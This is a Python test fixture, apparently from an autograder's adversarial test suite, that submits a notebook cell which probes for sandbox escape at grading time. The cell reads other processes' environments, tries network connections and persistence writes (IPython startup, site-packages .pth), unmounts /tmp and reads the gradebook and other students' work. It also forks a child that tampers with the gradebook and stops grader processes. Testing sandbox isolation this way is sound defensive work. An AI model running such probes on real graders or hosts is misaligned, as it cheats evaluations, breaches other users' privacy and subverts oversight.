"""The answer cell tries to get out of its jail at grading time, and prints what it found:
``/proc/1/environ`` and ``/proc/*/cmdline`` (the grader's processes, its environment), TCP
connections to 127.0.0.1 and to the internet, writes to ``~/.ipython/profile_default/startup``,
to site-packages (a ``.pth``) and to ``/tmp``, ``umount /tmp`` (CAP_SYS_ADMIN), the
connection files of other kernels (``/tmp/**/kernel*.json``, ``/run``,
``~/.local/share/jupyter/runtime``), files of the course (source, gradebook, other students)
through every path it can think of, and an ``os.fork()``-ed child that sleeps 30 s, then tries
to write the gradebook and to signal the grader's processes. Anything that would let it cheat
("a win") makes square right; nothing is found, so square is wrong (0), and the child dies with
the kernel (tests/test_adversarial.py::test_no_stray_processes)."""
from course import STRAY_MARKER, with_answers, write_nb

EXPECT = {"test_square": 0, "test_cube": 3, "test_half": 1}
FLAGS = {"tampered"}
EXACT_FLAGS = True

PROBE = r'''
import ctypes, glob, json, os, signal, socket, subprocess, sys, time

WINS, NOTES = [], []
# words of the grader's processes (pid 1 is the jail's own init, bwrap: its command line is known)
GRADER_WORDS = ("nbgrader", "pytest", "tp-course", "TP_COURSE", "gradebook")

def note(what, value):
    NOTES.append(f"{what}: {value!r}"[:600])

# 1. the processes we can see, their command lines and environments
pids = sorted(int(p) for p in os.listdir("/proc") if p.isdigit())
note("visible pids", pids)
for pid in pids:
    for part in ("cmdline", "environ"):
        try:
            with open(f"/proc/{pid}/{part}", "rb") as f:
                text = f.read().replace(b"\0", b" ").decode(errors="replace")
        except OSError as err:
            note(f"/proc/{pid}/{part}", err)
            continue
        note(f"/proc/{pid}/{part}", text[:300])
        if any(w in text for w in GRADER_WORDS) and pid not in (1, os.getpid()):
            WINS.append(f"grader process visible: /proc/{pid}/{part}")
signalled = []
for pid in pids:
    if pid in (os.getpid(), 1):
        continue
    try:
        os.kill(pid, 0)          # signal 0: permission check only
        signalled.append(pid)
    except OSError:
        pass
note("pids we may signal", signalled)

# 2. network: loopback ports of the host, the internet
for host, port in [("127.0.0.1", p) for p in (22, 80, 443, 3306, 5432, 6379, 8000, 8888, 8889, 9000)] + \
                  [("1.1.1.1", 53), ("8.8.8.8", 53), ("93.184.216.34", 80)]:
    s = socket.socket()
    s.settimeout(0.5)
    try:
        s.connect((host, port))
        WINS.append(f"connected to {host}:{port}")
    except OSError as err:
        note(f"connect {host}:{port}", err)
    finally:
        s.close()
try:
    note("dns example.com", socket.getaddrinfo("example.com", 80)[:1])
    WINS.append("DNS works")
except OSError as err:
    note("dns example.com", err)

# 3. writes that would persist
home = os.path.expanduser("~")
startup = os.path.join(os.environ.get("IPYTHONDIR", os.path.join(home, ".ipython")), "profile_default", "startup")
targets = [os.path.join(startup, "evil.py"), os.path.join(home, ".ipython", "profile_default", "startup", "evil.py"),
           "/tmp/persist", "/dev/shm/persist"]
targets += [os.path.join(p, "zz_adv_jail_escape.pth") for p in sys.path if p.endswith("-packages")]
for t in targets:
    try:
        os.makedirs(os.path.dirname(t), exist_ok=True)
        with open(t, "w") as f:
            f.write("# written by adversarial entry jail_escape\n")
        note("wrote", t)
        if t.endswith(".pth"):
            WINS.append(f"wrote into the Python installation: {t}")
            os.unlink(t)
    except OSError as err:
        note(f"write {t}", err)

# 4. mounts
libc = ctypes.CDLL(None, use_errno=True)
if libc.umount2(b"/tmp", 2) == 0:
    WINS.append("umount /tmp worked")
else:
    note("umount2 /tmp", os.strerror(ctypes.get_errno()))
try:
    proc = subprocess.run(["umount", "/tmp"], capture_output=True, text=True, timeout=5)
    note("umount /tmp", (proc.returncode, proc.stderr.strip()))
    if proc.returncode == 0:
        WINS.append("umount /tmp (command) worked")
except Exception as err:
    note("umount /tmp", err)
with open("/proc/self/mountinfo") as f:
    note("mounts", [line.split()[4] for line in f])

# 5. other kernels' connection files
mine = os.path.realpath(sys.argv[sys.argv.index("-f") + 1]) if "-f" in sys.argv else ""
note("my connection file", mine)
found = []
for pattern in ("/tmp/**/kernel*.json", "/run/**/kernel*.json", "/dev/shm/**/*.json",
                os.path.join(home, ".local/share/jupyter/runtime/*.json"),
                "/root/.local/share/jupyter/runtime/*.json", "/home/*/.local/share/jupyter/runtime/*.json",
                os.path.join(os.path.dirname(os.path.dirname(mine or "/x/y")), "*", "*.json")):
    found += glob.glob(pattern, recursive=True)
others = sorted({os.path.realpath(p) for p in found} - {mine})
note("connection files", found)
if others:
    WINS.append(f"other kernels' connection files: {others}")

# 6. the course: source, gradebook, other students, from every root we can think of
roots = {os.getcwd(), home, "/", "/work", "/work/main", "/root", "/home", "/srv", "/opt", "/mnt"}
d = os.getcwd()
while d != "/":
    d = os.path.dirname(d)
    roots.add(d)
for pid in pids:
    for link in ("cwd", "root"):
        try:
            roots.add(os.readlink(f"/proc/{pid}/{link}"))
        except OSError:
            pass
try:
    with open("/proc/1/cmdline", "rb") as f:
        roots |= {a.decode() for a in f.read().split(b"\0") if a.startswith(b"/")}
except OSError:
    pass
for r in sorted(roots):
    for up in range(4):
        base = r
        for _ in range(up):
            base = os.path.dirname(base)
        for rel in ("source/ps1/mini.ipynb", "gradebook.db", "submitted/honest_solution/ps1/mini.ipynb",
                    "autograded/honest_solution/ps1/mini.ipynb", "nbgrader_config.py", ".git/HEAD"):
            path = os.path.join(base, rel)
            try:
                with open(path, "rb") as f:
                    data = f.read(1 << 20)
            except OSError:
                continue
            note("read", path)
            if b"SECRET_HIDDEN_MARKER" in data or rel in ("gradebook.db", ".git/HEAD") or "honest" in rel:
                WINS.append(f"read the course: {path}")

# 7. a child that outlives the cell, then attacks the grader
CHILD = """
import os, sys, time, signal
time.sleep(30)
roots = set()
for p in os.listdir('/proc'):
    if p.isdigit():
        try:
            roots.add(os.readlink('/proc/%s/cwd' % p))
        except OSError:
            pass
for r in roots:
    if os.path.isdir(os.path.join(r, 'submitted', 'jail_escape')):
        try:
            with open(os.path.join(r, 'gradebook.db'), 'ab'):
                pass
            with open(os.path.join(r, 'ADV_ESCAPED_jail_escape'), 'w') as f:
                f.write('the child of jail_escape could write the gradebook\\n')
        except OSError:
            pass
for p in os.listdir('/proc'):
    if p.isdigit() and int(p) != os.getpid():
        try:
            with open('/proc/%s/cmdline' % p, 'rb') as f:
                if b'nbgrader' in f.read():
                    os.kill(int(p), signal.SIGSTOP)
        except OSError:
            pass
time.sleep(600)
"""
pid = os.fork()
if pid == 0:
    try:
        os.setsid()
        null = os.open(os.devnull, os.O_RDWR)
        for fd in (0, 1, 2):
            os.dup2(null, fd)
        os.execv(sys.executable, [sys.executable, "-c", CHILD, "@MARKER@", "jail_escape"])
    finally:
        os._exit(0)
note("forked child", pid)

print("\n".join(NOTES))
print("WINS:", WINS)
if WINS:
    def square(x):
        return x ** 2
else:
    def square(x):
        return x * 2
'''.replace("@MARKER@", STRAY_MARKER)


def submit(release, folder):
    write_nb(folder, with_answers(release, square=PROBE))
